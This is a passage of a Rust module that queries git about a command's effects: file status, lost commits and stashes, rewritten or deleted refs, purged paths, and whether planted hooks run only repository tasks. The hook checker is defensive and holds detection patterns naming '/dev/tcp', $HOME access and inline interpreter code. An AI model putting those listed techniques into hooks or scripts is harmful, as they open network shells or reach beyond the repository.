//! Questions for git about the paths a command changed: tracked, ignored or untracked; holding
//! uncommitted work; and, when the command touched a repository's own folder, whether commits,
//! hooks or configuration were lost or planted.
//!
//! git runs on the real tree (the state before the command) and, for the state after, on a
//! read-only view of the snapshot. It runs with optional locks off (so `status` never rewrites
//! the index behind the commit's conflict check), without system or global configuration, and
//! with fsmonitor and hooks disabled: a configuration planted by the command must not run code.

use std::collections::{HashMap, HashSet};
use std::ffi::OsString;
use std::io::Write;
use std::os::unix::ffi::{OsStrExt, OsStringExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

fn git() -> Command {
    let mut c = Command::new("git");
    c.args([
        "-c",
        "core.fsmonitor=false",
        "-c",
        "core.hooksPath=/dev/null",
        "-c",
        "core.untrackedCache=false",
    ])
    .env("GIT_OPTIONAL_LOCKS", "0")
    .env("GIT_CONFIG_NOSYSTEM", "1")
    .env("GIT_CONFIG_GLOBAL", "/dev/null")
    .env("GIT_LITERAL_PATHSPECS", "1")
    .env("GIT_PAGER", "cat")
    .env("GIT_TERMINAL_PROMPT", "0")
    .env_remove("GIT_DIR")
    .env_remove("GIT_WORK_TREE")
    .env_remove("GIT_INDEX_FILE")
    .stderr(Stdio::null());
    c
}

/// Runs git with `input` on stdin; `None` if git is missing or fails.
fn run(mut c: Command, input: &[u8]) -> Option<Vec<u8>> {
    c.stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = c.spawn().ok()?;
    let mut stdin = child.stdin.take()?;
    let input = input.to_vec();
    // Write and read concurrently only if the input is large; pathspec lists usually are small.
    let writer = std::thread::spawn(move || {
        let _ = stdin.write_all(&input);
    });
    let out = child.wait_with_output().ok()?;
    let _ = writer.join();
    out.status.success().then_some(out.stdout)
}

fn split_nul(b: &[u8]) -> impl Iterator<Item = &[u8]> {
    b.split(|c| *c == 0).filter(|s| !s.is_empty())
}

fn pb(b: &[u8]) -> PathBuf {
    PathBuf::from(OsString::from_vec(b.to_vec()))
}

/// What git says about a set of worktree paths (relative to the repository root).
#[derive(Debug, Default)]
pub struct PathFacts {
    pub tracked: HashSet<PathBuf>,
    /// Tracked and differing from HEAD, in the index or the worktree.
    pub modified: HashSet<PathBuf>,
    pub untracked: HashSet<PathBuf>,
    /// Ignored paths; a folder ends the prefix of everything below it.
    pub ignored: Vec<PathBuf>,
}

impl PathFacts {
    pub fn is_ignored(&self, rel: &Path) -> bool {
        self.ignored.iter().any(|i| rel == i || rel.starts_with(i))
    }
}

/// The fewest pathspecs that cover `rels` (a folder covers everything below it), in batches
/// that stay far below the kernel's argument limits.
fn pathspec_batches(rels: &[PathBuf]) -> Vec<Vec<PathBuf>> {
    let mut sorted: Vec<&PathBuf> = rels.iter().filter(|r| !r.as_os_str().is_empty()).collect();
    sorted.sort();
    let mut minimal: Vec<PathBuf> = Vec::new();
    for r in sorted {
        if !minimal.last().is_some_and(|m| r.starts_with(m)) {
            minimal.push(r.clone());
        }
    }
    let mut batches = Vec::new();
    let mut cur = Vec::new();
    let mut bytes = 0;
    for r in minimal {
        bytes += r.as_os_str().len() + 1;
        cur.push(r);
        if cur.len() >= 2000 || bytes > 96 * 1024 {
            batches.push(std::mem::take(&mut cur));
            bytes = 0;
        }
    }
    if !cur.is_empty() {
        batches.push(cur);
    }
    batches
}

pub fn path_facts(repo: &Path, rels: &[PathBuf]) -> Option<PathFacts> {
    let mut f = PathFacts::default();
    for batch in pathspec_batches(rels) {
        let mut ls = git();
        ls.arg("-C").arg(repo).args(["ls-files", "-z", "--"]).args(&batch);
        let tracked_out = run(ls, b"")?;
        f.tracked.extend(split_nul(&tracked_out).map(pb));
        let mut st = git();
        st.arg("-C")
            .arg(repo)
            .args([
                "status",
                "--porcelain=v2",
                "-z",
                "--untracked-files=all",
                "--ignored=matching",
                "--no-renames",
                "--",
            ])
            .args(&batch);
        let status_out = run(st, b"")?;
        f.add_status(&status_out);
    }
    Some(f)
}

impl PathFacts {
    fn add_status(&mut self, status_out: &[u8]) {
        let f = self;
        for rec in split_nul(status_out) {
            match rec.first() {
                Some(b'1') => {
                    // "1 XY sub mH mI mW hH hI path": the path is the 9th field.
                    if let Some(p) = rec.splitn(9, |c| *c == b' ').nth(8) {
                        f.modified.insert(pb(p));
                    }
                }
                Some(b'u') => {
                    if let Some(p) = rec.splitn(11, |c| *c == b' ').nth(10) {
                        f.modified.insert(pb(p));
                    }
                }
                Some(b'?') => {
                    f.untracked.insert(pb(&rec[2..]));
                }
                Some(b'!') => {
                    let p = &rec[2..];
                    f.ignored.push(pb(p.strip_suffix(b"/").unwrap_or(p)));
                }
                _ => {}
            }
        }
    }
}

/// HEAD's blob id for each path that HEAD has.
pub fn head_blobs(repo: &Path, rels: &[PathBuf]) -> HashMap<PathBuf, String> {
    let mut c = git();
    c.arg("-C").arg(repo).args(["ls-tree", "-z", "--full-tree", "HEAD", "--"]).args(rels.iter().take(2000));
    let Some(out) = run(c, b"") else { return HashMap::new() };
    let mut m = HashMap::new();
    for rec in split_nul(&out) {
        // "<mode> blob <id>\t<path>"
        let Some(tab) = rec.iter().position(|c| *c == b'\t') else { continue };
        let meta: Vec<&[u8]> = rec[..tab].split(|c| *c == b' ').collect();
        if meta.len() == 3 && meta[1] == b"blob" {
            m.insert(pb(&rec[tab + 1..]), String::from_utf8_lossy(meta[2]).into_owned());
        }
    }
    m
}

/// A blob's bytes, up to `max` of them (`None` if larger or unreadable).
pub fn blob(repo: &Path, id: &str, max: usize) -> Option<Vec<u8>> {
    let mut c = git();
    c.arg("-C").arg(repo).args(["cat-file", "blob", id]);
    run(c, b"").filter(|b| b.len() <= max)
}

/// git blob ids of arbitrary files (the snapshot's new content), as the repository would hash them.
pub fn hash_files(repo: &Path, files: &[PathBuf]) -> Vec<Option<String>> {
    let mut c = git();
    c.arg("-C").arg(repo).args(["hash-object", "--no-filters", "--stdin-paths"]);
    let mut input = Vec::new();
    for f in files {
        input.extend_from_slice(f.as_os_str().as_bytes());
        input.push(b'\n');
    }
    match run(c, &input) {
        Some(out) => {
            let ids: Vec<Option<String>> =
                String::from_utf8_lossy(&out).lines().map(|l| Some(l.trim().to_string())).collect();
            if ids.len() == files.len() { ids } else { vec![None; files.len()] }
        }
        None => vec![None; files.len()],
    }
}

/// The git folder of a repository root (`.git`, or where a `.git` file points).
/// The paths an index file lists (staged and committed files alike), read with the
/// repository's own git folder; `None` if git cannot read it.
pub fn index_paths(repo: &Path, gitdir: &Path, index: &Path) -> Option<HashSet<PathBuf>> {
    let mut c = git();
    c.arg("--git-dir").arg(gitdir).arg("--work-tree").arg(repo).args(["ls-files", "-z", "--cached"]);
    c.env("GIT_INDEX_FILE", index);
    let out = run(c, b"")?;
    Some(split_nul(&out).map(pb).collect())
}

pub fn git_dir(repo: &Path) -> Option<PathBuf> {
    let dot = repo.join(".git");
    let md = std::fs::symlink_metadata(&dot).ok()?;
    if md.is_dir() {
        return Some(dot);
    }
    let text = std::fs::read_to_string(&dot).ok()?;
    let target = text.trim().strip_prefix("gitdir:")?.trim();
    let p = Path::new(target);
    Some(if p.is_absolute() { p.to_path_buf() } else { repo.join(p) })
}

/// Commits that only the old refs reached, found by asking the after-view.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct HistoryLoss {
    /// Commits of branches and tags no ref or reflog reaches any more (or whose objects are gone).
    pub lost_commits: usize,
    /// Their ids (at most 1000), when known.
    pub lost_ids: Vec<String>,
    /// The repository's objects are gone altogether (the git folder deleted or emptied).
    pub objects_missing: bool,
    /// A stash entry became unreachable.
    pub stash_lost: bool,
    /// The ids of the stash entries that did (`refs/stash` and the older entries in its reflog).
    pub lost_stashes: Vec<String>,
}

fn tips(gitdir: &Path) -> Option<Vec<(String, String)>> {
    let mut c = git();
    c.arg("--git-dir").arg(gitdir).args(["for-each-ref", "--format=%(objectname) %(refname)"]);
    let out = run(c, b"")?;
    let mut v: Vec<(String, String)> = String::from_utf8_lossy(&out)
        .lines()
        .filter_map(|l| l.split_once(' ').map(|(a, b)| (a.to_string(), b.to_string())))
        .collect();
    let mut h = git();
    h.arg("--git-dir").arg(gitdir).args(["rev-parse", "--verify", "-q", "HEAD"]);
    if let Some(head) = run(h, b"") {
        let head = String::from_utf8_lossy(&head).trim().to_string();
        if !head.is_empty() {
            v.push((head, "HEAD".into()));
        }
    }
    Some(v)
}

/// Commits reachable from `tips` but from no ref or reflog of the view (at most 1000).
fn unreachable(view_gitdir: &Path, tips: &[String]) -> Option<Vec<String>> {
    if tips.is_empty() {
        return Some(Vec::new());
    }
    let mut c = git();
    c.arg("--git-dir").arg(view_gitdir).args([
        "rev-list",
        "--max-count=1000",
        "--stdin",
        "--not",
        "--all",
        "--reflog",
    ]);
    let input: String = tips.iter().map(|t| format!("{t}\n")).collect();
    let out = run(c, input.as_bytes())?;
    Some(
        String::from_utf8_lossy(&out)
            .lines()
            .map(|l| l.trim().to_string())
            .filter(|l| !l.is_empty())
            .collect(),
    )
}

/// A branch or tag whose old tip is no longer an ancestor of its new one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RewrittenRef {
    /// Short name (`main`, `v1.2`).
    pub name: String,
    /// A branch deleted whose commits no remaining branch (local or remote-tracking) or HEAD
    /// contains: work that was never merged anywhere.
    pub unmerged_deletion: bool,
    /// Every commit the ref lost has one with the same change (patch id) in its new history,
    /// and that history is not the old one cut short: a rebase that dropped nothing.
    pub changes_kept: bool,
    /// The ref still exists and its new tip holds another tree than its old one.
    pub tree_changed: bool,
}

/// Branches and tags whose old tip is no longer an ancestor of their new one (rewritten or
/// deleted), by short name. Only the refs that moved are looked at: a command that commits or
/// tags costs two listings and one ancestry check; a deleted branch costs one more listing.
pub fn rewritten_refs(host_gitdir: &Path, view_gitdir: &Path) -> Vec<RewrittenRef> {
    let Some(before) = tips(host_gitdir) else { return Vec::new() };
    let after: HashMap<String, String> =
        tips(view_gitdir).unwrap_or_default().into_iter().map(|(id, name)| (name, id)).collect();
    let mut out = Vec::new();
    for (old, name) in before
        .into_iter()
        .filter(|(_, n)| n.starts_with("refs/heads/") || n.starts_with("refs/tags/"))
        .filter(|(old, n)| after.get(n) != Some(old))
        .take(64)
    {
        let kept = after.get(&name).is_some_and(|new| {
            let mut c = git();
            c.arg("--git-dir").arg(view_gitdir).args(["merge-base", "--is-ancestor"]).arg(&old).arg(new);
            run(c, b"").is_some()
        });
        if kept {
            continue;
        }
        let unmerged_deletion = name.starts_with("refs/heads/")
            && !after.contains_key(&name)
            && !contained_in_a_branch(view_gitdir, &old, after.get("HEAD"));
        let changes_kept = after.get(&name).is_some_and(|new| changes_kept(view_gitdir, &old, new));
        let tree = |commit: &str| {
            let mut c = git();
            c.arg("--git-dir")
                .arg(view_gitdir)
                .args(["rev-parse", "--verify", "--quiet"])
                .arg(format!("{commit}^{{tree}}"));
            run(c, b"")
        };
        let tree_changed = after.get(&name).is_some_and(|new| tree(&old) != tree(new));
        out.push(RewrittenRef {
            name: name.trim_start_matches("refs/heads/").trim_start_matches("refs/tags/").to_string(),
            unmerged_deletion,
            changes_kept,
            tree_changed,
        });
    }
    out
}

/// The paths a history rewrite took out of every branch and tag it rewrote, if that is all it
/// did: each ref still exists; each old commit has a twin in the new history (same author,
/// author time and subject) whose tree differs from its own only by those paths, or it vanished
/// and touched only those paths; and none of the paths appears anywhere in the new history.
/// `None` when the rewrite did anything else, or is too large to compare (over 2000 commits a
/// ref, or 500 commits whose trees differ). The after-view borrows the host's objects, since the
/// rewrite's `gc` may have pruned the old commits from it.
pub fn purged_paths(host_gitdir: &Path, view_gitdir: &Path) -> Option<Vec<String>> {
    let before = tips(host_gitdir)?;
    let after: HashMap<String, String> =
        tips(view_gitdir)?.into_iter().map(|(id, name)| (name, id)).collect();
    let both = || {
        let mut c = git();
        c.arg("--git-dir")
            .arg(view_gitdir)
            .env("GIT_ALTERNATE_OBJECT_DIRECTORIES", host_gitdir.join("objects"));
        c
    };
    // (id, tree, "author\0time\0subject") of a ref's history, oldest last.
    let history = |rev: &str| -> Option<Vec<(String, String, String)>> {
        let mut c = both();
        c.args(["log", "--max-count=2001", "--format=%H%x00%T%x00%an%x00%at%x00%s%x00"]).arg(rev).arg("--");
        let out = run(c, b"")?;
        let fields: Vec<String> = String::from_utf8_lossy(&out)
            .split('\0')
            .map(|f| f.trim_start_matches('\n').to_string())
            .collect();
        let v: Vec<_> = fields
            .chunks_exact(5)
            .map(|f| (f[0].clone(), f[1].clone(), format!("{}\0{}\0{}", f[2], f[3], f[4])))
            .collect();
        (v.len() <= 2000).then_some(v)
    };
    let mut differing: Vec<(String, String)> = Vec::new();
    let mut vanished: Vec<String> = Vec::new();
    let mut new_tips: Vec<String> = Vec::new();
    for (old, name) in
        before.iter().filter(|(_, n)| n.starts_with("refs/heads/") || n.starts_with("refs/tags/"))
    {
        let new = after.get(name)?;
        if new == old {
            continue;
        }
        new_tips.push(new.clone());
        let (olds, news) = (history(old)?, history(new)?);
        let mut twins: HashMap<&str, Vec<(&str, &str)>> = HashMap::new();
        for (id, tree, key) in news.iter().rev() {
            twins.entry(key.as_str()).or_default().push((id.as_str(), tree.as_str()));
        }
        for (id, tree, key) in olds.iter().rev() {
            match twins.get_mut(key.as_str()).and_then(|v| (!v.is_empty()).then(|| v.remove(0))) {
                Some((_, new_tree)) if new_tree == tree => {}
                Some((new_id, _)) => differing.push((id.clone(), new_id.to_string())),
                None => vanished.push(id.clone()),
            }
        }
        // A commit of the new history with no old twin is something the rewrite made up.
        if twins.values().any(|v| !v.is_empty()) {
            return None;
        }
    }
    if new_tips.is_empty() || differing.len() > 500 || vanished.len() > 500 {
        return None;
    }
    let mut purged: std::collections::BTreeSet<String> = std::collections::BTreeSet::new();
    let mut changed = |lines: String, root: bool| -> Option<()> {
        let mut c = both();
        c.args(["diff-tree", "--stdin", "-r", "-m", "--name-only", "--no-renames", "-z"]);
        if root {
            c.arg("--root");
        }
        let headers: HashSet<&str> = lines.lines().filter_map(|l| l.split(' ').next()).collect();
        let out = run(c, lines.as_bytes())?;
        for token in split_nul(&out) {
            let token = String::from_utf8_lossy(token);
            if !headers.contains(token.as_ref()) {
                purged.insert(token.into_owned());
            }
        }
        Some(())
    };
    changed(differing.iter().map(|(a, b)| format!("{a} {b}\n")).collect(), false)?;
    changed(vanished.iter().map(|a| format!("{a}\n")).collect(), true)?;
    if purged.is_empty() {
        return None;
    }
    // None of them anywhere in the new history.
    let mut c = both();
    c.args(["rev-list", "--objects", "--stdin"]);
    let out = run(c, new_tips.iter().map(|t| format!("{t}\n")).collect::<String>().as_bytes())?;
    let present: HashSet<String> = String::from_utf8_lossy(&out)
        .lines()
        .filter_map(|l| l.split_once(' ').map(|(_, p)| p.to_string()))
        .collect();
    if purged.iter().any(|p| present.contains(p)) {
        return None;
    }
    Some(purged.into_iter().take(64).collect())
}

/// Whether every commit of `old` that `new` does not contain has a commit with the same change
/// in `new`'s history (`git cherry`: same patch id), and `new` brings commits of its own (a
/// new base): a rebase onto the latest upstream that kept each commit's change. A dropped,
/// squashed or edited commit has no twin; a reset to an older commit brings nothing new.
fn changes_kept(gitdir: &Path, old: &str, new: &str) -> bool {
    let mut c = git();
    c.arg("--git-dir").arg(gitdir).args(["cherry", new, old]);
    let Some(out) = run(c, b"") else { return false };
    let out = String::from_utf8_lossy(&out);
    let mut n = git();
    n.arg("--git-dir").arg(gitdir).args(["rev-list", "--count", new, "--not", old]);
    let brings_new = run(n, b"")
        .and_then(|o| String::from_utf8_lossy(&o).trim().parse::<u64>().ok())
        .is_some_and(|count| count > 0);
    brings_new && out.lines().all(|l| l.starts_with("- "))
}

/// Whether `commit` is in the history of some branch (local or remote-tracking) or of `head`.
/// Unknown (git failing) counts as contained: this only ever narrows what a request covers.
fn contained_in_a_branch(gitdir: &Path, commit: &str, head: Option<&String>) -> bool {
    let mut c = git();
    c.arg("--git-dir")
        .arg(gitdir)
        .args(["for-each-ref", "--count=1", "--format=%(refname)", "--contains"])
        .arg(commit)
        .args(["refs/heads", "refs/remotes"]);
    match run(c, b"") {
        Some(out) if !out.trim_ascii().is_empty() => true,
        Some(_) => head.is_some_and(|h| {
            let mut c = git();
            c.arg("--git-dir").arg(gitdir).args(["merge-base", "--is-ancestor", commit]).arg(h);
            run(c, b"").is_some() || change_merged(gitdir, commit, h)
        }),
        None => true,
    }
}

/// Which of `names` (workspace-relative paths of files git ignores) the repository's own
/// committed scripts write: a `configure` that does `cat > config.mk`, a Makefile rule with
/// `-o build.info`. Such a file is the repository's to make again; deleting it loses nothing the
/// next configure or build does not write back. At most 100 names are asked.
pub fn written_by_committed_scripts(repo: &Path, names: &[&str]) -> HashSet<String> {
    let names: Vec<&str> = names
        .iter()
        .copied()
        .filter(|n| !n.is_empty() && n.len() <= 200 && !n.contains(['\n', '\r', '\0']))
        .take(100)
        .collect();
    if names.is_empty() {
        return HashSet::new();
    }
    // `> name`, `>> name`, `>name`, `-o name`, `--output name`, `tee name`, with the name as
    // written or as `./name`.
    let patterns: Vec<String> = names
        .iter()
        .map(|n| {
            let n = regex::escape(n);
            format!(r#"(>>?|-o|--output[= ]|tee)[[:space:]]*["']?(\./)?{n}(["'[:space:];)]|$)"#)
        })
        .collect();
    let mut c = git();
    c.arg("-C").arg(repo).args(["grep", "--no-color", "-E", "-o", "-h", "-I", "-f", "-", "HEAD", "--"]);
    let mut input = patterns.join("\n");
    input.push('\n');
    let Some(out) = run(c, input.as_bytes()) else { return HashSet::new() };
    let text = String::from_utf8_lossy(&out);
    names.iter().filter(|n| text.lines().any(|l| l.contains(*n))).map(|n| n.to_string()).collect()
}

/// Which of `values` the repository's committed files (`HEAD`) already hold, as is: what is
/// committed is already shared with everyone who has the repository. The values go to git on
/// its standard input, never on its command line; at most 200 are asked.
pub fn committed_values(repo: &Path, values: &[&str]) -> HashSet<String> {
    let values: Vec<&str> = values
        .iter()
        .copied()
        .filter(|v| !v.is_empty() && !v.contains(['\n', '\r', '\0']))
        .take(200)
        .collect();
    if values.is_empty() {
        return HashSet::new();
    }
    let mut c = git();
    c.arg("-C").arg(repo).args(["grep", "--no-color", "-F", "-o", "-h", "-I", "-f", "-", "HEAD", "--"]);
    let mut input = values.join("\n");
    input.push('\n');
    // git grep exits 1 when nothing matched: no value is committed.
    run(c, input.as_bytes())
        .map(|out| {
            String::from_utf8_lossy(&out)
                .lines()
                .map(|l| l.to_string())
                .filter(|l| values.contains(&l.as_str()))
                .collect()
        })
        .unwrap_or_default()
}

/// Whether a hook script only runs the repository's own tasks: every command in it is a
/// build, test or lint tool (`make`, `npm`, `cargo`, `pytest`, `ruff`, ...), a script of the
/// repository given by a relative path, a read-only git command, or shell plumbing (`echo`,
/// `exit`, `test`); nothing that reaches the network, the home or the rest of the machine, no
/// inline code (`python -c`), no backticks; a command substitution (`$(git diff --cached
/// --name-only)`) only of commands that pass the same test, and a variable set to the top level
/// (`root="$(git rev-parse --show-toplevel)"`) read as the top level.
pub fn runs_repository_tasks(script: &str) -> bool {
    let text = script
        .replace("$(git rev-parse --show-toplevel)", "TOP")
        .replace("\\\n", " ")
        .replace("2>&1", " ")
        .replace(">&2", " ")
        // Looking a program up runs nothing.
        .replace("command -v ", "which ")
        .replace("command -V ", "which ");
    // What single quotes hold is literal to the shell: no substitution, no variable.
    let text = literals_blanked(&text);
    if text.contains(['`', '~'])
        || text.contains("$HOME")
        || text.contains("${HOME")
        || text.contains("/dev/tcp")
    {
        return false;
    }
    let Some(text) = substitutions_checked(&text) else { return false };
    let text = top_level_variables(&text);
    runs_only_repository_tasks(&text) == Some(true)
}

/// Whether each command of `text` (substitutions already checked) is one of the repository's
/// tasks, and whether there was any: `None` when one is not.
fn runs_only_repository_tasks(text: &str) -> Option<bool> {
    const TOOLS: &[&str] = &[
        "make",
        "npm",
        "npx",
        "yarn",
        "pnpm",
        "cargo",
        "go",
        "python",
        "python3",
        "pytest",
        "tox",
        "nox",
        "ruff",
        "black",
        "isort",
        "flake8",
        "mypy",
        "pylint",
        "eslint",
        "prettier",
        "tsc",
        "jest",
        "vitest",
        "mvn",
        "gradle",
        "./gradlew",
        "./mvnw",
        "bundle",
        "rake",
        "rubocop",
        "mix",
        "dotnet",
        "pre-commit",
        "lefthook",
        "shellcheck",
        "shfmt",
        "gofmt",
        "rustfmt",
        "clang-format",
        "echo",
        "printf",
        "exit",
        "true",
        "false",
        "test",
        "[",
        "set",
        "cd",
        "git",
        // Lookups and path arithmetic: they run nothing.
        "which",
        "type",
        "hash",
        "dirname",
        "basename",
    ];
    // Interpreters: the repository's own when they run a script of it by relative path.
    const INTERPRETERS: &[&str] = &["node", "nodejs", "bash", "sh", "ruby", "perl", "php", "deno", "bun"];
    // git's own formatters and LFS, as hooks call them (`git clang-format --staged`, `git lfs
    // pre-push "$@"`).
    const GIT_TOOLS: &[&str] = &["clang-format", "lfs"];
    const GIT_READS: &[&str] =
        &["diff", "rev-parse", "status", "ls-files", "log", "show", "symbolic-ref", "merge-base", "rev-list"];
    const PLUMBING: &[&str] =
        &["then", "fi", "else", "do", "done", "esac", "{", "}", "if", "elif", "!", "exec", "command"];
    let mut any = false;
    let mut in_case = 0usize;
    for line in text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
        // `case "$out" in`: a test of a word; the arms' patterns (`''|*'no files'*)`) are no
        // commands.
        let mut line = line;
        if let Some(rest) = line.strip_prefix("case ") {
            let at = rest.find(" in")?;
            in_case += 1;
            line = rest[at + 3..].trim();
        }
        if in_case > 0 {
            if let Some(at) = line.find(')').filter(|&at| !line[..at].contains('(')) {
                line = line[at + 1..].trim();
            }
        }
        for part in line.split(['&', '|', ';']).map(str::trim).filter(|p| !p.is_empty()) {
            if part == "esac" || part.starts_with("esac ") {
                in_case = in_case.saturating_sub(1);
            }
            let mut words = part.split_whitespace().peekable();
            while let Some(w) = words.peek() {
                let assignment = w.split_once('=').is_some_and(|(k, _)| {
                    !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                });
                if PLUMBING.contains(w) || assignment {
                    words.next();
                } else {
                    break;
                }
            }
            let rest: Vec<&str> = words.collect();
            let Some(first) = rest.first() else { continue };
            // A redirection anywhere but to /dev/null or a relative path writes outside.
            let outside = rest.iter().enumerate().any(|(i, w)| {
                let Some(at) = w.find('>') else { return false };
                let target = w[at..].trim_start_matches(['>', '&']);
                let target = if target.is_empty() { rest.get(i + 1).copied().unwrap_or("") } else { target };
                target.starts_with('/') && target != "/dev/null"
            });
            if outside {
                return None;
            }
            // Quoted as installers write it: `exec "$(git rev-parse --show-toplevel)/scripts/x.sh"`.
            let unquoted = first.trim_matches(['"', '\'']);
            let local_script = !unquoted.starts_with('/')
                && !unquoted.contains("..")
                && unquoted.contains('/')
                && unquoted.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c));
            // The hook's own sibling (`"$0.local" "$@"`): the hook that was there before, kept
            // and chained by the installer; the user's, not the installer's.
            let sibling = {
                let f = first.trim_matches('"');
                ["$0.", "${0}.", "$0-", "${0}-"].iter().any(|p| f.starts_with(p))
                    && f.chars().all(|c| c.is_ascii_alphanumeric() || "$.{}_-".contains(c))
            };
            let ok = match *first {
                "git" => rest.get(1).is_some_and(|s| GIT_READS.contains(s) || GIT_TOOLS.contains(s)),
                "python" | "python3" => !rest.contains(&"-c"),
                "cd" => rest.get(1).is_none_or(|d| !d.starts_with('/') || *d == "TOP"),
                f if INTERPRETERS.contains(&f) => runs_a_repository_script(&rest[1..]),
                f => TOOLS.contains(&f) || local_script || sibling,
            };
            if !ok {
                return None;
            }
            any = true;
        }
    }
    Some(any)
}

/// `text` with what each pair of single quotes holds blanked (`'Q'`): the shell reads it as
/// is, so a backtick or `$(` there runs nothing. Single quotes inside double quotes are plain
/// characters, and a backslash outside quotes escapes the next one.
fn literals_blanked(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let (mut double, mut chars) = (false, text.chars());
    while let Some(c) = chars.next() {
        match c {
            '\\' if !double => {
                out.push(c);
                if let Some(n) = chars.next() {
                    out.push(n);
                }
            }
            '"' => {
                double = !double;
                out.push(c);
            }
            '\'' if !double => {
                out.push_str("'Q'");
                for n in chars.by_ref() {
                    if n == '\'' {
                        break;
                    }
                }
            }
            _ => out.push(c),
        }
    }
    out
}

/// `text` with each command substitution (`$(git diff --cached --name-only)`, innermost first)
/// replaced by a plain word, when every one runs only the repository's tasks; `None` when one
/// does not, or one is left open.
fn substitutions_checked(text: &str) -> Option<String> {
    let mut text = text.to_string();
    for _ in 0..32 {
        let Some(start) = text
            .match_indices("$(")
            .map(|(i, _)| i)
            .find(|&i| text[i + 2..].find(')').is_some_and(|end| !text[i + 2..i + 2 + end].contains("$(")))
        else {
            return (!text.contains("$(")).then_some(text);
        };
        let end = start + 2 + text[start + 2..].find(')')?;
        let inner = &text[start + 2..end];
        // Arithmetic (`$((...))`) and anything that is not a command of the repository's.
        if inner.starts_with('(') || runs_only_repository_tasks(inner) != Some(true) {
            return None;
        }
        text.replace_range(start..=end, "SUB");
    }
    None
}

/// `text` with each variable set to the top level (`root="TOP"`) read as it: `"$root/x"` is
/// `"TOP/x"`.
fn top_level_variables(text: &str) -> String {
    let names: Vec<String> = text
        .lines()
        .flat_map(|l| l.split([';', '&', '|']))
        .filter_map(|p| {
            let (k, v) = p.trim().split_once('=')?;
            let named = !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
            (named && matches!(v.trim(), "TOP" | "\"TOP\"")).then(|| k.to_string())
        })
        .collect();
    let mut text = text.to_string();
    for n in names {
        text = text.replace(&format!("${{{n}}}"), "TOP");
        let bare = format!("${n}");
        let mut out = String::with_capacity(text.len());
        let mut rest = text.as_str();
        while let Some(at) = rest.find(&bare) {
            let after = &rest[at + bare.len()..];
            out.push_str(&rest[..at]);
            if after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_') {
                out.push_str(&bare);
            } else {
                out.push_str("TOP");
            }
            rest = after;
        }
        out.push_str(rest);
        text = out;
    }
    text
}

/// Whether an interpreter's arguments run a script of the repository: options that load no
/// inline code, then a relative path inside the repository (`tools/lint/run.js --staged`, `run
/// scripts/check.ts`). Inline code (`-c`, `-e`, `--eval`, `-p`), a program read from stdin or
/// an absolute path is not the repository's.
fn runs_a_repository_script(args: &[&str]) -> bool {
    const INLINE: &[&str] = &["-c", "-e", "-E", "--eval", "-p", "--print", "-x", "-s", "-"];
    for a in args {
        // Quoted as installers write it: `node "TOP/tools/hooks/run.mjs" pre-commit "$@"`.
        let a = &a.trim_matches(['"', '\'']);
        if INLINE.contains(a) || a.starts_with("--eval=") || a.starts_with("--print=") {
            return false;
        }
        if a.starts_with('-') || *a == "run" {
            continue;
        }
        return !a.starts_with('/')
            && !a.contains("..")
            && a.contains(['/', '.'])
            && a.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c));
    }
    false
}

/// Whether `into` already has every change of `commit`: merging `commit` into it would leave
/// its tree as it is. A branch squash-merged (or rebased and merged) upstream is merged in this
/// sense though none of its commits is an ancestor. The merge is computed in memory; the trees
/// it writes go to a scratch object folder, never into the repository.
pub fn change_merged(gitdir: &Path, commit: &str, into: &str) -> bool {
    let Ok(scratch) = tempfile::Builder::new().prefix("foresee-merge-").tempdir() else { return false };
    let mut c = git();
    c.arg("--git-dir")
        .arg(gitdir)
        .env("GIT_OBJECT_DIRECTORY", scratch.path())
        .env("GIT_ALTERNATE_OBJECT_DIRECTORIES", gitdir.join("objects"))
        .args(["merge-tree", "--write-tree", "--no-messages", into, commit]);
    let Some(merged) = run(c, b"") else { return false };
    let mut t = git();
    t.arg("--git-dir").arg(gitdir).args(["rev-parse", "--verify", "--quiet"]).arg(format!("{into}^{{tree}}"));
    run(t, b"").is_some_and(|tree| {
        let first = |b: &[u8]| b.split(|c| *c == b'\n').next().map(<[u8]>::to_vec).unwrap_or_default();
        !tree.trim_ascii().is_empty() && first(&merged) == first(&tree)
    })
}

/// Whether a repository still holds all of `commits` (another clone keeping them means the
/// history is not lost, as when a rebased branch is force-pushed).
pub fn holds_commits(gitdir: &Path, commits: &[String]) -> bool {
    if commits.is_empty() {
        return true;
    }
    let mut c = git();
    c.arg("--git-dir").arg(gitdir).args(["cat-file", "--batch-check"]);
    let input: String = commits.iter().map(|t| format!("{t}\n")).collect();
    match run(c, input.as_bytes()) {
        Some(out) => !String::from_utf8_lossy(&out).contains("missing"),
        None => false,
    }
}

/// Compares the refs before (`host_gitdir`) with what is reachable after (`view_gitdir`).
pub fn history_loss(host_gitdir: &Path, view_gitdir: Option<&Path>) -> HistoryLoss {
    let Some(before) = tips(host_gitdir) else { return HistoryLoss::default() };
    if before.is_empty() {
        return HistoryLoss::default();
    }
    let Some(view) = view_gitdir.filter(|v| v.join("objects").is_dir()) else {
        return HistoryLoss { lost_commits: before.len(), objects_missing: true, ..Default::default() };
    };
    let (stash, refs): (Vec<_>, Vec<_>) = before.into_iter().partition(|(_, r)| r.starts_with("refs/stash"));
    let ids = |v: &[(String, String)]| -> Vec<String> { v.iter().map(|(id, _)| id.clone()).collect() };
    // rev-list fails on a tip whose object is gone: count every such tip as lost.
    let (lost_commits, lost_ids) = match unreachable(view, &ids(&refs)) {
        Some(v) => (v.len(), v),
        None => (refs.len().max(1), Vec::new()),
    };
    // Every entry, not only the newest: `git stash pop && git stash clear` restores one and
    // drops the others.
    let mut entries = stash_entries(host_gitdir);
    entries.extend(ids(&stash).into_iter().filter(|t| !entries.contains(t)).collect::<Vec<_>>());
    let (stash_lost, lost_stashes) = match unreachable(view, &entries) {
        Some(gone) => {
            let lost: Vec<String> = entries.iter().filter(|e| gone.contains(e)).cloned().collect();
            (!gone.is_empty(), lost)
        }
        None => (!entries.is_empty(), Vec::new()),
    };
